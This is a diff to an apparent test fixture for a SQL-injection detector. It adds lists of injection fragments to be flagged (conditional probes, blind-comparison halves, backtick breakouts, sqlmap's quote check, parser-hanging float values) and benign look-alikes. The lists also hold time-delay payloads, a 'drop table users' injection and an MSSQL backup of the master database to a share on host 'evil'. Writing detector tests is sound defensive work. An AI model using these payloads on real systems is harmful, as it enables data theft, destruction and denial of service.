@@ -41,6 +41,12 @@ const SQLI_PL1: Record<string, string[]> = {
   'delays with their arguments, spaced or cut': ['sleep (5)', 'SLEEP(5', 'pg_sleep(5*2)', 'benchmark(5000000,md5(1))', 'sleep(5)+1', 'randomblob(500000000/2)'],
   "a query's tail and a condition cut at the application's quote, in SQL capitals": ['FROM termine GROUP BY tag1', 'FROM users WHERE id = 1', "something LIKE '"],
   'a number aliased and selected from a table, in capitals': ['1234 AS "foobar" FROM tablevar2=whatever', '5 AS total FROM orders'],
+  'IF/IIF over two constants with its branches, a comparison operand opened as a subquery': ["SELECT IIF(1 > 1, 'TRUE', 'FALSE' )", 'IIF(1>0,1,0)', 'if(2<1,sleep(5),0)', "id = ( SELECT", '1<>(select'],
+  "a quoted literal compared with one the application's closing quote completes (the false half of a blind pair)": ["'1'='2", "'abc'<>'abd", "'3085'='30"],
+  'a condition with an operator only SQL has after a break, cut or terminated': ["'glob 1;", "x' RLIKE 0", "admin' regexp 1;"],
+  'a backtick-quoted identifier closed by the value, then a terminator, a SQL-only operator or a new condition': ['admin@example.com`;', 'id`;--', 'name`; drop table users', '` REGEXP ', "` RLIKE '^a'", '` < 0) AND `', '` = 1 or 1=1'],
+  "sqlmap's heuristic check: both quotes together at the end of the value": ['"\'', "'\"", '1,(\')"(.)', 'abc).\'"),(.', '42"(\'.,'],
+  'the number that hangs PHP and Java float parsers': ['2.2250738585072011e-308', '2.2250738585072012e-308', '0.00022250738585072012e-304', '-2.22507385850720119999e-308'],
   'negated comparisons, probes that are one call, MSSQL concatenation and backups, a whole-value waitfor': ['1 AND NOT 1=2', 'and not 1=1', '1 AND ISNULL(NULL)', "ad'+'min", "1; BACKUP DATABASE master TO DISK='\\\\evil\\x.bak'--", "WAITFOR DELAY '0:0:5'"],
 };
 
@@ -49,7 +55,6 @@ const SQLI_PL2: Record<string, string[]> = {
   'select-list and clause tails': ['x AS orders FROM', 'x AS `documentType` FROM', 'from `db_miwf`.`sys_refindex` limit', 'from termine group by tag1', 'having count > 5', 'name like \''],
   'alternating-case clause words': ['ORder by', 'ordeR by'],
   'a value that opens with a break into SQL': ["'alter a", "' union/", '" UNION A'],
-  'probes that are statements without a table': ["SELECT IIF(1 > 1, 'TRUE', 'FALSE' )"],
   'casts and number evasions': ['password::int', '1.e.tables'],
   'conditionals and literal comparisons': ['case when condition1 then result1', 'AND deleted = 0)', '||(c=!1)', '1 is not 1', "'1' not regexp '1'", '1 is null', 'in (select id from', 'x except values (1, 2)'],
   'a function call opened and cut': ['ABS(', 'date(', 'round (', 'COUNT('],
@@ -90,7 +95,10 @@ const BENIGN: string[] = [
   // comparisons and logic words in ordinary text; curly apostrophes
   '2>1', '1 < 2', 'or 2 more', '(Select one)', 'Delete from cart', '2 limit 3 per customer', '1 order by date', 'Prix 10\u00a0€ or so', 'and (count(x))', '@@', 'set @john as admin', "x'='", 'Math.floor(Math.random()*2)', '`SELECT * FROM orders` is slow', "O'Brien or jane.doe (2)", '1 or 2 items', 'and 3 others', 'x or y', 'It’s John’s order, don’t ship it', 'O’Brien’s café', 'the ‘best’ one',
   // look-alikes of the evasion shapes: labels with a parenthesis, arrows, comparisons, escapes that are not code
-  'Alert(s)', 'Confirm (2 items)', 'Import(CSV)', 'Fetch(all)', 'Confirm(yes)', 'ALERT(1)', 'alert(s) and prompt(s)', 'A --> B --> C', '--> see above', 'if (a < b) return a',
+  // quotes, backticks and numbers near the probes above: quoted text, markdown spans, DBL_MIN, a C condition
+  'She said "it\'s fine"', '"quoted"\'', "'single' and \"double\"", '(\'a\', "b")', '`foo`;`bar`;`def`', 'run `npm test`; then push', '`x` = 1 or `y`', '` is the backtick', '`>65', 'it`s done;',
+  '2.2250738585072014e-308', '2.225073858507201e-308', '22250738585072.5', "'yes' = 'no", "'a' = 'b' is false", 'if (1 > 2) return', 'price = (select one)',
+  "it's like 1;", "the 'like' button", "parents' glob", 'Alert(s)', 'Confirm (2 items)', 'Import(CSV)', 'Fetch(all)', 'Confirm(yes)', 'ALERT(1)', 'alert(s) and prompt(s)', 'A --> B --> C', '--> see above', 'if (a < b) return a',
   'i < f.length', '< 5 items left', 'a < b c d', 'data: none, <empty>', 'Data: 3 rows, <br> missing', ' online=true', '  onboarding=done',
   'Unicode escapes look like \\u00e9 or \\u2019', 'C:\\Users\\u0041dmin is a folder name', '+1', '[]', '!!', '(+)',
   'document.title is empty', 'Set level (alert) (see docs)', 'Severity: alert, then page', 'How do I use Function`...` tagged templates', 'location = "Dublin"',
